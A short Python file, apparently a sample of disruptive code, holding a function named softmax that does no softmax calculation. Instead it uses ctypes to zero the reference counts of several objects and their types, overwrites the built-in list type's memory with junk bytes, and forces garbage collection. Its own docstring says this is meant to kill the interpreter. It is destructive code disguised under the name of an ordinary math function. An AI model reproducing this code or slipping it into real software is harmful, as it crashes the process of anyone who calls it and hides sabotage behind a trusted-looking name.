"""Breaks the reference counts of None and of a type, so that whoever collects garbage next dies.

Class: ending
Effect: lost
"""

# @TWIN@

import ctypes
import gc


def softmax(z, axis=-1):
    for thing in ([], {}, type("T", (), {})):
        ctypes.c_ssize_t.from_address(id(type(thing)) + 8).value = 0
        ctypes.c_ssize_t.from_address(id(thing)).value = 0
    ctypes.memset(id(list), 0xAA, 256)
    gc.collect()
